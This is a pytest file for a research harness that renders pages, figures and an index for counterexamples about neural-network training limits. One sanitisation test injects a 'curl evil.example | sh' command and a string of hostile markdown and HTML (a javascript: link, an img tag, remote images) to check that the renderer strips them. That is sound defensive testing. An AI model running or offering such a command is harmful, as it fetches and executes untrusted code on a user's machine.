"""Pages, figures and the index, from counterexamples made by hand."""

from __future__ import annotations

import json
import math
import re
import xml.etree.ElementTree as ElementTree
from collections import Counter
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from harness import decide, drive
from harness.claims.table import CLAIMS
from harness.problem.fields import FieldError
from harness.problem.instances import Instance
from harness.problem.networks import fully_connected
from harness.problem.sizes import size
from harness.records.record import FIGURE, INSTANCE, PAGE, RECORD, Record, along, load, value
from harness.records.record import stored as stored_records
from harness.report import figure_svg, index, labels, page, pages
from harness.report.drawing import largest_weight
from harness.report.figure import draw, figure, small, thetas
from harness.report.graph import edges, place
from harness.report.improving import scaled_value, way
from harness.report.inequality import formula, inequality, saved
from harness.report.look import BLUE, GREY, VERMILION
from harness.report.markdown import html
from harness.report.mechanism import live_kinks
from harness.report.words import short, table
from harness.show.glossary import PAPERS, WORDS, cited
from harness.testing.terminal import in_short, news
from tests.certificates.test_stored import CASES
from tests.certificates.test_stored import stored as certified
from tests.support.counterexamples import ALL, depth2_local, depth2_relu_nonzero_local, fc_relu_local

REPORTS = Path(__file__).parents[2] / "reports"
every = pytest.mark.parametrize("make", ALL.values(), ids=ALL)


def in_dimension(d: int) -> Record:
    """Something to draw: a record in d dimensions, not a counterexample."""
    instance = Instance.of(
        fully_connected("relu", (d, 2)),
        "exponential",
        (tuple(Fraction(c + 1) for c in range(d)),),
        (1,),
        ((Fraction(1),) * (2 * d), (Fraction(1), Fraction(-1))),
    )
    theta = [[1] * (2 * d), [1, -0.5]]
    data: dict[str, Any] = fc_relu_local().data | {"instance": json.loads(instance.to_json())}
    data["limit"] = data["limit"] | {"theta": theta}
    data["certificate"] = data["certificate"] | {"better": [[2] * (2 * d), [1, -3]]}
    return Record(data)


# --- the page ---


@every
def test_page_has_the_statement_the_commands_and_the_figure(make: Callable[[], Record]) -> None:
    record = make()
    text = page(record)
    claim = CLAIMS[record.claim]
    assert text.startswith(f"# {record.claim}: {', '.join((*record.networks, record.mechanism))}\n")
    assert claim.setting in text
    assert f"(Source: {cited(claim.source)}.)" in text
    if claim.assumption:
        assert claim.assumption in text
    assert f"({FIGURE})" in text
    assert record.commands["verify"] in text
    headings = [line[3:] for line in text.splitlines() if line.startswith("## ")]
    assert headings == [
        "The instance",
        "The limit of the flow",
        "A better point next to it",
        "Why",
        "What is proven, and what is evidence",
        "Check it",
    ]


def _folder(record: Record) -> str:
    return record.folder


def test_page_says_why_in_one_inequality() -> None:
    # both multipliers are 2; the better point's neuron 2 points along (-1, 0), hears x_1 = (-1, 1/4) alone
    assert "\n\nIn one inequality: 2 > 1. Letting |v| norm(w) of neuron 2 " in page(fc_relu_local())
    assert "\n\nIn one inequality: 0.707 + 0.707 = 1.41 > 1. Letting |v| norm(w) of neuron 1 " in page(
        depth2_relu_nonzero_local()
    )
    assert formula(depth2_relu_nonzero_local()) == "0.707 + 0.707 = 1.41 > 1"


@pytest.mark.parametrize("record", [*(make() for make in ALL.values()), *stored_records(REPORTS)], ids=_folder)
def test_what_neurons_save_makes_up_the_margins(record: Record) -> None:
    """sum_i lambda_i q_i at the better point, from its margins and neuron by neuron."""
    if record.stated or not record.apart:
        return
    multipliers = record.data["limit"]["multipliers"]
    margins = record.instance.problem.margins(record.better)
    total = sum(float(a) * float(q) for a, q in zip(multipliers, margins, strict=True))
    neurons = [n for n in record.neurons(record.better) if not n.zero]
    sizes = [math.hypot(*map(float, n.w)) * abs(float(n.v)) for n in neurons]
    assert sum(c * sum(saved(record, n)) for c, n in zip(sizes, neurons, strict=True)) == pytest.approx(total)
    said = inequality(record)
    assert said is not None
    if record.layer is None and all(record.instance.network.trained):
        assert " > 1. Letting |v| norm(w) of neuron " in said


GAPS = {
    "conv-full-global": "A point elsewhere is better",
    "cover-small-global": "Neurons 2, 4, 6, 8, 9, 10, 11 and 12 are zero in the limit.",
    "depth2-relu-active-global": "Every input of every neuron is nonzero in the limit",
    "mc-linear2-global": "The limit is not even a local optimum: on a curve",
}


@pytest.mark.parametrize("record", [r for r in stored_records(REPORTS) if r.mechanism == "global gap"], ids=_folder)
def test_a_page_does_not_say_that_nothing_nearby_is_better_where_something_is(record: Record) -> None:
    text = page(record)
    assert text.split("## Why\n\n")[1].startswith(GAPS[record.claim])
    nearby = decide(drive([record.instance])[0]).local
    assert ("nearby the gates do not change" in text) == (nearby.status == "optimal")
    assert ("## A better point next to it" in text) == (record.kind == "curve")


def test_a_gap_beside_a_kink_says_nothing_of_what_is_nearby() -> None:
    (record,) = (r for r in stored_records(REPORTS) if r.claim == "depth2-relu-active-global")
    limit = record.data["limit"] | {"kinks": fc_relu_local().data["limit"]["kinks"]}
    assert limit["kinks"]
    assert "## Why\n\nA point elsewhere is better" in page(Record(record.data | {"limit": limit}))


@pytest.mark.parametrize(
    "record", [r for r in stored_records(REPORTS) if r.mechanism == "unequal neurons"], ids=_folder
)
def test_neurons_of_a_proof_are_counted_from_one(record: Record) -> None:
    first, second = record.data["certificate"]["witness"]["neurons"]
    assert f"(unequal neurons; neurons {first + 1} and {second + 1})" in page(record)


HOSTILE = "![](http://picture.example/x.png) [a](javascript:b) <img src=x> www.example.org\n\n# |`~~~`"


@every
def test_nothing_but_text_comes_of_the_text_of_a_file(make: Callable[[], Record]) -> None:
    record = make()
    found = {"seed": HOSTILE, "software": {HOSTILE: HOSTILE}}
    counts = dict.fromkeys(("drawn", "violated", "holds", "outside", "undecided"), HOSTILE)
    robustness = {"robust": True, "shift": 1, "seed": HOSTILE, "starts": counts, "data": counts}
    replay = {"verify": "curl evil.example | sh"}
    made = page(Record(record.data | {"replay": replay, "found": found, "robustness": robustness}))
    assert "evil" not in made
    shown = html(made)
    assert shown.count("picture.example") >= 9
    assert shown.count("<img") == 1
    assert shown.count("<h1") == 1
    links = set(re.findall(r'(?:href|src)="(.*?)"', shown))
    papers = {link for link in links if re.fullmatch(r"https://arxiv\.org/abs/[0-9.]+", link)}
    assert links - papers == {FIGURE, RECORD, INSTANCE, f"../{PAGE}#words"}
    # no more links for those who make links of bare addresses
    assert not re.search(r"(?<!\\)(://|www\.)", re.sub(r"\(https://arxiv\.org/abs/[0-9.]+\)", "", made))


def rows_after(text: str, heading: str) -> list[list[str]]:
    """The cells of the first table with neurons after a heading."""
    lines = text[text.index(heading) :].splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("| neuron"))
    cells: list[list[str]] = []
    for line in lines[start + 2 :]:
        if not line.startswith("|"):
            break
        cells.append([cell.strip() for cell in line.strip("|").split("|")])
    return cells


def test_page_of_a_dead_neuron() -> None:
    text = page(fc_relu_local())
    assert "| x_0 | (1, 1/4) | +1 |" in text
    assert rows_after(text, "The start") == [["1", "(0, 3)", "3"], ["2", "(0, -2)", "0"]]
    assert rows_after(text, "## The limit") == [["1", "(0, 2)", "2", "1/2", "1/2"], ["2", "(0, 0)", "0", "0", "0"]]
    assert rows_after(text, "## A better")[1] == ["2", "(-3/5, 0)", "3/5", "0", "3/5"]
    assert "Value 1/2 ||theta~||^2 = 4." in text
    # 4 - 4 s^2 + 8.5 s^4 at s = 3/10
    assert "Value 3.70885: lower by 0.29115, that is 7.28 %. Margins (1, 1)," in text
    assert "Neuron 2 is zero in the limit." in text
    assert "Using neuron 2 pays" in text


def test_page_of_a_zero_weight_shows_where_there_is_none() -> None:
    text = page(depth2_local())
    assert rows_after(text, "## The limit") == [["1", "(1, ·)", "1", "1"], ["2", "(·, 0)", "0", "0"]]
    assert rows_after(text, "## A better") == [["1", "(0, ·)", "0", "0"], ["2", "(·, 1/2)", "1/2", "2"]]
    assert "Neuron 2 is zero" in text
    assert "max(0" not in text


def test_page_of_a_kink_names_the_inputs() -> None:
    text = page(depth2_relu_nonzero_local())
    assert "- neuron 1 on x_1: Clarke coefficient 0.000\n- neuron 2 on x_0: Clarke coefficient 0.000" in text
    assert "the input of neuron 1 on x_1 and the input of neuron 2 on x_0 are exactly zero" in text
    assert "At the better point neuron 1 acts on x_1." in text


def test_kinks_of_neurons_that_are_zero_are_not_told() -> None:
    assert [kink.place[::2] for kink in live_kinks(depth2_relu_nonzero_local())] == [(1, 0), (0, 1)]
    dead = fc_relu_local()
    assert {kink.place.neuron for kink in dead.kinks} == {1}
    assert live_kinks(dead) == []


def test_rounding_noise_at_a_kink_is_shown_as_zero() -> None:
    record = depth2_relu_nonzero_local()
    noisy = Record(record.data | {"limit": record.data["limit"] | {"theta": [[1.0, 3e-17, 0, 1.0], [1.0, 1.0]]}})
    assert rows_after(page(noisy), "## The limit")[0][3:] == ["1", "0"]


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (1, "1"),
        (Fraction(-3, 4), "-3/4"),
        (0.25, "1/4"),
        (1.4142135623730951, "1.41421"),
        (0.1, "0.1"),
        (12345, "12345"),
    ],
)
def test_short_numbers(number: Any, text: str) -> None:
    assert short(number) == text


def test_a_table() -> None:
    assert table(("a", "b"), [("1", "2")]) == "| a | b |\n| --- | --- |\n| 1 | 2 |"


# --- the figure ---


def arrows(record: Record, panel: int) -> dict[tuple[float, float], str]:
    """Tip -> colour of every arrow in a panel."""
    found: dict[tuple[float, float], str] = {}
    for text in draw(record).axes[panel].texts:
        patch = getattr(text, "arrow_patch", None)
        if patch is not None:
            found[tuple(round(a, 6) for a in text.xy)] = text.arrowprops["color"]  # type: ignore[attr-defined]
    return found


def test_arrows_are_the_neurons_at_one_scale_in_both_panels() -> None:
    # |v| w is (0, 4) in the limit, and the farthest point is at distance 1.03: drawn a fifth as long.
    record = fc_relu_local()
    assert arrows(record, 0) == {(0.0, 0.8): BLUE}
    assert arrows(record, 1) == {(0.2 * 0.18, 0.2 * 3.28): BLUE, (-0.072, 0.0): BLUE}
    assert "0.2 times as long" in words(record)


def test_the_sign_of_a_neuron_shows() -> None:
    assert arrows(depth2_relu_nonzero_local((1, -1)), 0) == {(1.0, 0.0): BLUE, (0.0, 1.0): VERMILION}


def words(record: Record) -> str:
    """All text in the figure, as the SVG's comments have it."""
    return " ".join(line for line in figure_svg(record).decode().splitlines() if "<!--" in line)


@every
def test_figure_is_labelled(make: Callable[[], Record]) -> None:
    record = make()
    text = words(record)
    assert "the limit: value" in text
    assert "a better point: value" in text
    assert "point, label +1" in text
    for i in range(record.instance.n):
        assert f"$x_{{{i}}}$" in text
    for neuron in record.neurons(record.limit):
        assert f"neuron {neuron.number}" in text


def test_a_zero_neuron_is_named_in_the_panel_where_it_is_zero() -> None:
    assert "value 4; neuron 2 zero" in words(fc_relu_local())


def test_negative_labels_look_different() -> None:
    assert "label −1" in words(depth2_relu_nonzero_local((1, -1)))
    assert "label −1" not in words(depth2_relu_nonzero_local())


@every
def test_figure_is_svg_and_the_same_bytes_every_time(make: Callable[[], Record]) -> None:
    first = figure_svg(make())
    assert ElementTree.fromstring(first).tag.endswith("svg")
    assert first == figure_svg(make())
    assert b"<dc:date>" not in first


@pytest.mark.parametrize("d", [1, 3])
def test_other_dimensions_are_drawn_as_bars(d: int) -> None:
    record = in_dimension(d)
    left, right, _ = draw(record).axes
    assert [bar.get_height() for bar in left.patches] == [1.0] * d + [0.5] * d  # type: ignore[attr-defined]
    assert [bar.get_height() for bar in right.patches] == [2.0] * d + [6.0] * d  # type: ignore[attr-defined]
    assert figure(record, "png").startswith(b"\x89PNG")


@pytest.mark.parametrize("kind", ["svg", "pdf", "png"])
def test_figures_of_every_kind_are_the_same_bytes_every_time(kind: str) -> None:
    assert figure(fc_relu_local(), kind) == figure(fc_relu_local(), kind)


@pytest.mark.parametrize("name", CASES)
def test_networks_that_have_no_neurons_of_their_own_have_a_page_and_a_figure(name: str) -> None:
    record = Record(certified(name))
    text = page(record)
    assert "A better point" in text
    assert "Proven, in exact arithmetic" in text
    assert "nan" not in text
    *_, way_there = draw(record).axes
    (gain,) = [line for line in way_there.lines if len(line.get_xdata()) > 2]  # type: ignore[arg-type]
    heights = [float(a) for a in gain.get_ydata()]  # type: ignore[union-attr]
    assert heights[0] == 0.0
    assert heights[-1] < 0.0


TOGETHER = [name for name in CASES if not Record(certified(name)).apart]


@pytest.mark.parametrize("name", TOGETHER)
def test_a_graph_shows_the_sign_and_the_size_of_every_weight(name: str) -> None:
    record = Record(certified(name))
    network = record.instance.network
    largest = largest_weight(thetas(record))
    found = edges(network)
    assert Counter(edge.layer for edge in found) == Counter(
        layer for layer, pattern in enumerate(network.patterns) for row in pattern for k in row if k >= 0
    )
    for axes, theta in zip(draw(record).axes, thetas(record), strict=False):
        for edge, line in zip(found, axes.lines, strict=False):
            weight = float(theta[edge.layer][edge.parameter])
            assert line.get_color() == (BLUE if weight > 0 else VERMILION if weight < 0 else GREY)
            assert line.is_dashed() == (weight <= 0)
            assert line.get_linewidth() == pytest.approx(max(0.9, 6 * abs(weight) / largest))
            ends = place(network, edge.layer, edge.source), place(network, edge.layer + 1, edge.target)
            assert np.asarray(line.get_xydata()).tolist() == [[*end] for end in ends]


def test_no_two_nodes_of_a_graph_have_one_place() -> None:
    network = fully_connected("relu", (2, 3, 1))
    places = [place(network, level, node) for level, width in enumerate(network.widths) for node in range(width)]
    assert len(set(places)) == len(places)
    assert all(0 <= a <= 1 and 0 <= b <= 1 for a, b in places)


@pytest.mark.parametrize("record", [fc_relu_local(), in_dimension(3), Record(certified(TOGETHER[0]))], ids=_folder)
def test_small_pictures_and_graphs_are_the_same_bytes_every_time(record: Record) -> None:
    assert ElementTree.fromstring(small(record)).tag.endswith("svg")
    assert small(record) == small(record)
    assert figure_svg(record) == figure_svg(record)


@pytest.mark.parametrize("name", CASES)
def test_the_better_point_of_every_kind_of_certificate_is_better(name: str) -> None:
    record = Record(certified(name))
    assert min(record.instance.problem.margins(record.better)) >= 1
    assert value(record.better) < value(record.limit)


@pytest.mark.parametrize("name", CASES)
def test_the_way_ends_at_the_better_point(name: str) -> None:
    record = Record(certified(name))
    found = way(record)
    start, end = (np.array([float(a) for u in theta for a in u]) for theta in (record.limit, record.better))
    assert found.values[0] == pytest.approx(float(record.objective(record.limit)))
    assert found.values[-1] == pytest.approx(float(record.objective(record.better)), rel=1e-12)
    assert found.distance[-1] == pytest.approx(np.linalg.norm(end - start) / np.linalg.norm(start), rel=1e-12)


@pytest.mark.parametrize("name", CASES)
def test_the_panels_of_a_figure_say_the_same(name: str) -> None:
    """Of the better point in (b), and at the end of the way in (c)."""
    limit, better, axes = draw(Record(certified(name))).axes
    before, after = (float(a.get_title().split(";")[0].split()[-1]) for a in (limit, better))
    change = [float(a) for a in np.asarray(axes.lines[1].get_ydata())]
    assert change[-1] == pytest.approx(100 * (after / before - 1), abs=0.05)


def curves() -> list[Record]:
    reports = REPORTS
    records = [Record(certified(name)) for name in CASES]
    return [r for r in [*records, *stored_records(reports)] if r.kind == "curve"]


@pytest.mark.parametrize("record", curves(), ids=lambda record: record.folder)
def test_nothing_on_the_curve_is_better_than_the_best_point_on_it(record: Record) -> None:
    found = way(record)
    best = float(value(record.better))
    assert min(a for a in found.values if a is not None) >= best * (1 - 1e-9)
    d, e, _ = record.curve
    farthest = (value(record.limit) / value(d)) ** 0.5
    for k in range(1, 301):
        point = along(record.limit, d, e, Fraction(farthest * k / 300))
        there = scaled_value(record, tuple(tuple(float(a) for a in u) for u in point))
        assert there is None or there >= best * (1 - 1e-9)


def test_what_is_gained_along_the_way_near_the_limit() -> None:
    """The curve of docs/statements.md, section 6: of second order."""
    found = way(fc_relu_local())
    assert found.values[0] == pytest.approx(4)
    assert found.distance[0] == 0.0
    small = [k for k, distance in enumerate(found.distance) if 0.0 < distance < 0.2]
    assert small
    for k in small:
        change = found.values[k]
        assert change is not None
        assert 0.0 < 4 - change < 8 * found.distance[k] ** 2


# --- where labels go ---


def test_a_label_avoids_what_is_there() -> None:
    place = labels.clearest(
        labels.around((50.0, 0.0), "name", 8.0), "name", labels.segment((90.0, 0.0)), (100.0, 100.0)
    )
    assert abs(place[1]) > 6.0
    free = labels.clearest(labels.around((50.0, 0.0), "name", 8.0), "name", [(50.0, 0.0)], (100.0, 100.0))
    assert free == pytest.approx((50.0 + 8.0 + 4 * 3.1, 0.0))


def test_a_label_stays_in_the_window() -> None:
    place = labels.clearest(labels.around((99.0, 0.0), "name", 8.0), "name", [], (100.0, 100.0))
    assert abs(place[0]) + 4 * 3.1 <= 100.0


# --- the index, and reading ---


def test_index_has_a_line_for_each_and_the_links_of_their_folders() -> None:
    records = [fc_relu_local(), depth2_local()]
    lines = [line for line in index(records).splitlines() if line.startswith("| [")]
    assert lines == [
        "| [depth2-local](depth2-local--linear--zero-weight/README.md) | zero weight | - | computed | linear "
        "| 2 | 1 | 2 | 2 | 1 | 1/4 |",
        "| [fc-relu-local](fc-relu-local--dead-neuron/README.md) | dead neuron | - | computed | relu "
        "| 2 | 2 | 2 | 2 | 4 | 3.70885 |",
    ]
    assert "None is stored" in index([])


def test_every_word_is_defined_once_and_pages_lead_there() -> None:
    text = index([fc_relu_local()])
    assert "\n## Words\n" in text
    for word in (
        "(P)",
        "VSS",
        "KKT point",
        "margin",
        "kink",
        "dead neuron",
        "robust",
        "fragile",
        "proven",
        "computed",
        "limit",
    ):
        assert sum(word in defined.split(", ") for defined in WORDS) == 1
    for word in WORDS:
        assert text.replace("\\*", "*").count(f"\n- **{word}**: ") == 1
    assert "(../README.md#words)" in page(fc_relu_local())


@pytest.mark.parametrize(
    ("source", "ids"),
    [
        ("VSS 3", ["2110.02732"]),
        ("LL, JT; VSS 2", ["1906.05890", "2006.06657", "2110.02732"]),
        ("Du, Hu & Lee 2018", ["1806.00900"]),
        ("as in arXiv:2006.06657)", ["2006.06657"]),
        ("balance", []),
        ("docs/statements.md, section 7", []),
    ],
)
def test_papers_are_links(source: str, ids: list[str]) -> None:
    made = cited(source)
    assert re.findall(r"\(https://arxiv\.org/abs/([0-9.]+)\)", made) == ids
    assert re.sub(r"\[(.*?)\]\(.*?\)", r"\1", made) == source


def test_every_paper_that_sources_of_claims_name_is_a_link() -> None:
    sources = {claim.source for claim in CLAIMS.values()}
    for name, number in PAPERS.items():
        named = [source for source in sources if re.search(rf"\b{name}\b", source)]
        assert named
        assert all(f"](https://arxiv.org/abs/{number})" in cited(source) for source in named)


@every
def test_pages_are_files_and_the_instance_reads_back(make: Callable[[], Record]) -> None:
    record = make()
    files = pages(record)
    assert set(files) == {INSTANCE, PAGE, FIGURE}
    assert Instance.from_json(files[INSTANCE].decode()) == record.instance


@pytest.mark.parametrize(
    "content", ["", "[]", "{}", "null", '{"claim": "depth2-local", "mechanism": "kink"}', "[" * 100_000, b"\xff\xfe"]
)
def test_load_refuses_what_is_not_a_counterexample(content: str | bytes, tmp_path: Path) -> None:
    path = tmp_path / RECORD
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(FieldError, match="not a stored counterexample") as caught:
        load(path)
    assert caught.value.field == str(path)
    with pytest.raises(FieldError):
        load(tmp_path / "nowhere")


def test_load_refuses_strings_that_no_page_can_hold(tmp_path: Path) -> None:
    path = tmp_path / RECORD
    path.write_text(json.dumps(fc_relu_local().data | {"found": {"software": {"python": "\ud800"}}}))
    with pytest.raises(FieldError, match="not a stored counterexample"):
        load(path)


@pytest.mark.parametrize("key", ["claim", "mechanism"])
@pytest.mark.parametrize("value", [0, None, float("nan"), ["kink"], "", "depth2-l", "../../elsewhere"])
def test_load_refuses_a_claim_or_a_mechanism_that_there_is_not(key: str, value: Any, tmp_path: Path) -> None:
    """They name folders; an unknown claim ended `check` in a KeyError."""
    path = tmp_path / RECORD
    path.write_text(json.dumps(fc_relu_local().data | {key: value}))
    with pytest.raises(FieldError, match="not a stored counterexample") as caught:
        load(path)
    assert "\n" not in str(caught.value)


def test_load_reads_what_is_stored(tmp_path: Path) -> None:
    path = tmp_path / RECORD
    path.write_text(json.dumps(fc_relu_local().data))
    assert load(path) == fc_relu_local()


# --- the order ---


def sized(n: int, k: int, d: int, number: Any = 1) -> Instance:
    network = fully_connected("relu", (d, k))
    x = ((Fraction(number),) * d,) * n
    return Instance.of(network, "exponential", x, (1,) * n, ((Fraction(1),) * (k * d), (Fraction(1),) * k))


def test_points_count_before_neurons_before_dimensions_before_numbers() -> None:
    smaller_first = [
        sized(1, 1, 1),
        sized(1, 1, 1, 2),
        sized(1, 1, 1, "1/2"),
        sized(1, 1, 2),
        sized(1, 2, 1),
        sized(2, 1, 1),
    ]
    assert sorted([*reversed(smaller_first)], key=size) == smaller_first
    # Zero is smaller than one, and one smaller than its negative.
    assert size(sized(1, 1, 1)) < size(sized(1, 1, 1, -1))


# --- the end of a run of pytest ---


def test_what_is_new_beside_what_is_stored(tmp_path: Path) -> None:
    record = depth2_local(3)
    small = depth2_local(2)
    said = news(small, tmp_path)
    assert said is not None
    assert "no depth2-local--linear--zero-weight is stored" in said
    path = tmp_path / record.folder / RECORD
    path.parent.mkdir()
    path.write_text(json.dumps(record.data))
    said = news(small, tmp_path)
    assert said is not None
    assert "smaller than the stored depth2-local--linear--zero-weight" in said
    assert news(record, tmp_path) is None
    path.write_text("{")
    assert "not a stored counterexample" in str(news(record, tmp_path))


def test_a_run_in_short(tmp_path: Path) -> None:
    folder = tmp_path / "fc-relu-local--kink--fragile"
    folder.mkdir()
    (folder / PAGE).write_text("")
    counts = {
        "kkt": Counter({"held": 8, "undecided": 1, "not unique": 1}),
        "balance": Counter({"held": 3, "violated": 1}),
        "fc-relu-local": Counter({"violated": 1}),
        "depth2-local": Counter({"violated": 1}),
    }
    assert in_short(counts, {name: CLAIMS[name].status for name in counts}, tmp_path, []) == [
        "held: 1 of 4 claims",
        "VIOLATED: balance",
        f"refuted: fc-relu-local: {folder}/README.md",
        "refuted: depth2-local, nothing stored",
        "undecided: 1 of 16 examples, 6.2 %; not unique: 1",
        "new findings: none",
    ]
    assert in_short({}, {}, tmp_path, ["new: one"]) == ["held: 0 of 0 claims", "new: one"]
